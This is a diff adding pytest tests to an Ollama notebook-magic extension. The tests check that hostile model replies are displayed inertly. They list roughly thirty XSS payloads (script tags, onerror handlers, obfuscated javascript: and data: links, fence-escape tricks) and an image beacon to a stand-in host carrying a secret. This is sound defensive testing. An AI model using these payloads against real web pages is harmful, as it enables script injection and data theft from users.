@@ -379,3 +379,274 @@ def test_interrupt_in_a_store_listener_during_commit(shell, ollama_server):
     assert (after.model, len(after.turns)) in {("llama3.2", 1), ("qwen3", 2)}
     if len(after.turns) == 1:
         assert state(store) == before
+
+
+# -- 5. hostile output -----------------------------------------------------------
+try:
+    import mistune
+
+    # Raw HTML passes through and no URL is filtered: only our escaping protects.
+    _render_html = mistune.create_markdown(
+        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
+        plugins=["table", "strikethrough", "url"],
+    )
+except ImportError:  # pragma: no cover - nbconvert brings it with the test extras
+    _render_html = None
+
+_LIVE_TAG = re.compile(r"<(script|img|iframe|style|svg|object|embed|form|link|meta|base|math)\b", re.IGNORECASE)
+_OUR_TAG = re.compile(r"</?(details|summary|small)\b", re.IGNORECASE)
+_URL_ATTR = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?([^"'\s>]*)""", re.IGNORECASE)
+
+
+def _script_url(url: str) -> bool:
+    import html
+
+    for _ in range(3):
+        url = html.unescape(url)
+    url = re.sub(r"[\x00-\x20\x7f\\]", "", url)
+    return re.match(r"(?:javascript|vbscript|data):", url, re.IGNORECASE) is not None
+
+
+def _script_urls(html_out: str) -> list[str]:
+    """URLs with a script-capable scheme in the attributes of real tags."""
+    attrs = " ".join(re.findall(r"<[a-zA-Z][^>]*>", html_out))
+    return [u for u in _URL_ATTR.findall(attrs) if _script_url(u)]
+
+
+def assert_inert(markdown: str, *, details: int = 0, small: int = 0, raw_ok: bool = False) -> None:
+    """No live HTML of the model's, no script link; only our own tags, balanced."""
+    if not raw_ok:  # (raw_ok: the hostile text sits inside a fenced code block, shown as code)
+        assert not _LIVE_TAG.search(markdown), markdown
+        for dest in re.findall(r"\]\(\s*([^\s)]*)|\]:\s*(\S*)", markdown):
+            assert not _script_url(dest[0] or dest[1]), markdown
+    if _render_html is None:
+        return
+    html_out = _render_html(markdown)
+    assert not _LIVE_TAG.search(html_out), html_out
+    assert not _script_urls(html_out), html_out
+    tags = sorted(t.lower() for t in _OUR_TAG.findall(html_out))
+    assert tags == sorted(["details"] * 2 * details + ["summary"] * 2 * details + ["small"] * 2 * small), html_out
+
+
+HOSTILE = {
+    "script": "Hi <script>alert(1)</script> there",
+    "img_onerror": "<img src=x onerror=alert(1)>",
+    "iframe": "<iframe src=https://evil.example></iframe>",
+    "style": "<style>body{display:none}</style>\nstyled",
+    "svg": "<svg onload=alert(1)>",
+    "comment_and_anchor": "<!-- hidden --><a href=javascript:alert(1)>x</a>",
+    "js_link": "[click](javascript:alert(1))",
+    "js_link_case_space": "[click](  JaVaScRiPt:alert(1) )",
+    "js_link_entity_tab": "[click](java&#x09;script:alert(1))",
+    "js_link_entity_colon": "[click](javascript&colon;alert(1))",
+    "js_link_backslash": "[click](javascript\\:alert(1))",
+    "js_link_nested_label": "[a [nested] label](javascript:alert(1))",
+    "js_link_multiline_label": "[two\nlines](javascript:alert(1))",
+    "js_link_nested_parens": "[x](javascript:alert((1)))",
+    "js_link_angle": "[x](<javascript:alert(1)>)",
+    "js_ref": "[click][r]\n\n[r]: javascript:alert(1)",
+    "js_ref_next_line": "[click][r]\n\n[r]:\n  java&#x0A;script:alert(1)",
+    "js_ref_in_list": "- [r]: javascript:alert(1)\n\n[x][r]",
+    "js_ref_in_quote": "> [r]: javascript:alert(1)\n\n[x][r]",
+    "js_autolink": "<javascript:alert(1)>",
+    "data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "image_beacon": "![pixel](https://evil.example/track?q=secret)",
+    "close_our_html": "</details></summary></small><script>alert(1)</script>",
+    "escaped_backtick": "\\`<script>alert(1)</script>\\`",
+    "span_across_paragraphs": "`a\n\n<img src=x onerror=alert(1)>`",
+    "span_after_heading": "# `x\n<script>alert(1)</script>`",
+    "span_in_table": "| a | b |\n|---|---|\n| `x | <script>alert(1)</script>` |",
+    "span_after_tilde": "# ~~~```<script>alert(1)</script>```",
+    "span_after_url": "see https://x.example/`<script>alert(1)</script>`",
+    "fence_in_list_then_html": "1. step\n   ```\n   code\n<script>alert(1)</script>",
+    "fence_closed_too_deep": "```\n    ```\n```\n<script>alert(1)</script>\n```",
+}
+IN_CODE = {  # the hostile text ends up inside a fenced code block: shown, as code
+    "unclosed_fence_then_html": "```\nunclosed\n\n</details>\n<script>alert(1)</script>",
+    "unclosed_tilde_fence": "~~~~\n</small><img src=x onerror=alert(1)>",
+}
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, *IN_CODE])
+def test_hostile_reply_is_inert(nb_shell, ollama_server, name):
+    text = HOSTILE.get(name) or IN_CODE[name]
+    ollama_server.reply = text
+    ollama_server.token_delay = 0.0005
+    assert run(nb_shell, "%%ollama\nsay it").success
+    turn = store_of(nb_shell).active.turns[-1]
+    assert turn.reply["content"] == text  # stored exactly; only the display is defused
+    shown = [m["data"]["text/markdown"] for m in nb_shell.display_pub.messages if "data" in m]
+    assert len(shown) >= 2
+    for md in shown[:-1]:  # every streamed frame, not only the last
+        assert_inert(md, raw_ok=name in IN_CODE)
+    assert_inert(shown[-1], small=1, raw_ok=name in IN_CODE)
+
+
+def test_hostile_thinking_and_tool_output_are_inert(nb_shell, ollama_server):
+    # The test server's thinking echoes the question; the tool result is the model's text too.
+    run(nb_shell, "def echo(text: str) -> str:\n    '''Echo.\n\n    Args:\n      text: what to echo\n    '''\n    return text")
+    hostile = "```\n</details><script>alert(1)</script> [x](javascript:alert(1))"
+    assert run(nb_shell, f"%%ollama -m qwen3 --think\n{hostile}").success
+    assert_inert(nb_shell.display_pub.last_markdown, details=1, small=1, raw_ok=True)
+    assert run(nb_shell, f"%%ollama --tools echo\n{hostile}").success
+    assert_inert(nb_shell.display_pub.last_markdown, details=1, small=1, raw_ok=True)
+
+
+def test_code_stays_readable():
+    """Defusing must not mangle ordinary code: fences and inline code keep `<` and `&`."""
+    text = "Use `a < b && c` here.\n\n```html\n<div class=\"x\">&amp;</div>\n```\n\n1. Step\n   ```\n   x < 3\n   ```"
+    out = safe_markdown(text)
+    assert "`a < b && c`" in out
+    assert "<div class=\"x\">&amp;</div>" in out
+    assert "   x < 3" in out
+    assert safe_markdown("plain **text** with no markup") == "plain **text** with no markup"
+
+
+_MD_PIECES = ["```", "~~~", "`", "``", "<script>x</script>", "<img src=x onerror=y>", "\n", "\n\n", " ", "    ", "\t",
+              "- ", "1. ", "> ", "# ", "[a]", "[b]: ", "(javascript:x)", "javascript:x", "|", "|---|", "\\", "&#x09;",
+              "&", "<", "text", "(", ")", "]", "[", "</details>", "<!--", "*", "~", "![i]", "www.x.y/", "@"]
+
+
+@pytest.mark.skipif(_render_html is None, reason="needs a Markdown renderer (mistune, from nbconvert)")
+def test_fuzzed_markdown_is_inert():
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    from ollama_magic.chat import Reply
+
+    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.lists(st.sampled_from(_MD_PIECES), max_size=20), st.lists(st.sampled_from(_MD_PIECES), max_size=20),
+           st.booleans())
+    def check(thinking: list[str], content: list[str], streaming: bool) -> None:
+        view = NotebookView.__new__(NotebookView)  # no display handle needed to build the bundle
+        view.model, view.tools = "m", []
+        view.reply = Reply(parts=["".join(content)], thinking_parts=["".join(thinking)])
+        md = view._bundle(streaming=streaming, footer="" if streaming else "m · 1 tokens")["text/markdown"]
+        html_out = _render_html(md)
+        assert not _LIVE_TAG.search(html_out), (md, html_out)
+        assert not _script_urls(html_out), (md, html_out)
+        want = ["details", "details", "summary", "summary"] if "".join(thinking) else []
+        tags = sorted(t.lower() for t in _OUR_TAG.findall(html_out))
+        assert tags == sorted(want + ([] if streaming else ["small", "small"])), (md, html_out)
+
+    check()
+
+
+# -- 4. bad input -------------------------------------------------------------------
+BAD_CELL_LINES = {
+    "unknown_option": ("--bogus", "unrecognized arguments"),
+    "near_miss_option": ("--modle llama3.2", "did you mean '--model'"),
+    "missing_model_value": ("-m", "expected one argument"),
+    "missing_option_value": ("-o", "expected one argument"),
+    "missing_chat_value": ("--chat", "expected one argument"),
+    "bad_temperature": ("-t hot", "invalid float value"),
+    "bad_think_level": ("--think extreme", "invalid choice"),
+    "option_bad_json": ("-o stop=[oops", "looks like JSON"),
+    "option_bad_json_list": ("-o 'stop=[1,]'", "looks like JSON"),
+    "option_no_equals": ("-o num_ctx", "KEY=VALUE"),
+    "option_empty_key": ("-o =3", "KEY=VALUE"),
+    "option_dotted_key": ("-o a.b=3", "KEY=VALUE"),
+    "option_digit_key": ("-o 1x=3", "KEY=VALUE"),
+    "option_spaced_key": ("-o 'num ctx=3'", "KEY=VALUE"),
+    "unclosed_quote": ("--system 'never closed", "quote is not closed"),
+    "image_missing": ("--image /nonexistent/cat.png", "no such file or variable"),
+    "image_directory": ("--image /tmp", "no such file or variable"),
+    "format_missing_variable": ("--format shema", "'shema' is not defined"),
+    "format_wrong_type": ("--format some_int", "expected a dict"),
+    "tools_not_a_function": ("--tools some_int", "is not a function"),
+    "out_not_a_name": ("--out 'a b'", "needs a variable name"),
+    "chat_two_words": ("-c 'two words'", "one word"),
+    "error_without_failure": ("--error", "nothing to explain"),
+}
+
+
+@pytest.mark.parametrize("name", list(BAD_CELL_LINES))
+def test_bad_cell_options_are_one_clear_line_and_change_nothing(shell, ollama_server, events, name):
+    line, message = BAD_CELL_LINES[name]
+    run(shell, "%%ollama\nkept")
+    shell.user_ns["some_int"] = 3
+    store = store_of(shell)
+    before, n = state(store), len(ollama_server.chat_requests())
+    events.clear()
+    res = run(shell, f"%%ollama {line}\nquestion")
+    assert message in one_line_usage_error(res)
+    assert state(store) == before and events == []
+    assert len(ollama_server.chat_requests()) == n
+    assert run(shell, "%%ollama\nstill fine").success
+
+
+def test_non_image_file_is_refused(shell, ollama_server, tmp_path):
+    for name, data in {"notes.txt": b"just text", "empty.png": b"", "fake.png": b"GIF8 not really"}.items():
+        (tmp_path / name).write_bytes(data)
+        res = run(shell, f"%%ollama --image {tmp_path / name}\nlook")
+        assert "--image" in one_line_usage_error(res)
+    assert ollama_server.chat_requests() == []
+
+
+@pytest.mark.parametrize("body", ["", "\n\n", "   \n\t\n"], ids=["empty", "newlines", "whitespace"])
+def test_empty_cell_is_refused(shell, ollama_server, body):
+    res = run(shell, f"%%ollama\n{body}")
+    assert "empty" in one_line_usage_error(res)
+    assert ollama_server.chat_requests() == [] and store_of(shell).active.turns == []
+
+
+def test_one_megabyte_cell_is_sent_whole(shell, ollama_server):
+    text = ("Lorem ipsum {not_a_var} dolor sit amet, 漢字 " * 30_000)[:1_000_000].strip()
+    assert run(shell, "%%ollama --once\n" + text).success
+    assert ollama_server.last_chat()["messages"][-1]["content"] == text
+    assert run(shell, "%%ollama\n" + text).success
+    assert store_of(shell).active.turns[-1].user["content"] == text
+
+
+@pytest.mark.parametrize("line", ["-m ' '", "-m ''"], ids=["blank", "empty"])
+def test_blank_model_option_is_refused_or_ignored(shell, ollama_server, line):
+    res = run(shell, f"%%ollama {line}\nhello")
+    if res.success:  # an empty -m means "the chat's model"
+        assert ollama_server.last_chat()["model"] == "llama3.2"
+    else:
+        one_line_usage_error(res)
+    assert store_of(shell).active.model == "llama3.2"
+
+
+@pytest.mark.parametrize("rest", ["", "   "], ids=["empty", "whitespace"])
+def test_model_subcommand_with_no_name_only_shows(shell, ollama_server, capsys, rest):
+    capsys.readouterr()
+    shell.run_line_magic("ollama", "model" + rest)
+    assert "llama3.2" in capsys.readouterr().out
+    assert store_of(shell).active.model == "llama3.2"
+
+
+@pytest.mark.parametrize("name", ["''", '"  "', "'two words'"])
+def test_model_subcommand_with_blank_or_spaced_name_is_refused(shell, ollama_server, name):
+    before = state(store_of(shell))
+    with pytest.raises(UsageError) as info:
+        shell.run_line_magic("ollama", f"model {name}")
+    assert "\n" not in str(info.value)
+    assert state(store_of(shell)) == before
+
+
+BAD_LINE_MAGICS = {
+    "unknown_subcommand": ("frobnicate", "unknown subcommand"),
+    "fork_no_name": ("fork", "usage"),
+    "fork_bad_at": ("fork x --at many", "--at takes a number"),
+    "fork_at_out_of_range": ("fork x --at 5", "--at must be between"),
+    "fork_existing": ("fork default", "exists already"),
+    "fork_unclosed_quote": ("fork 'x", "quote is not closed"),
+    "options_bad": ("options =1", "KEY=VALUE"),
+    "options_unclosed_quote": ("options a='b", "quote is not closed"),
+    "chat_near_miss": ("chat defualt", "did you mean"),
+    "save_two_paths": ("save a b", "usage"),
+    "load_no_path": ("load", "usage"),
+}
+
+
+@pytest.mark.parametrize("name", list(BAD_LINE_MAGICS))
+def test_bad_line_magic_is_one_clear_line(shell, ollama_server, name):
+    line, message = BAD_LINE_MAGICS[name]
+    if name == "fork_unclosed_quote":
+        pytest.xfail("needs magics.py fix: _sub_fork does not catch the ValueError of an unclosed quote")
+    run(shell, "%%ollama\nkept")
+    before = state(store_of(shell))
+    res = run(shell, f"%ollama {line}")
+    assert message in one_line_usage_error(res)
+    assert state(store_of(shell)) == before
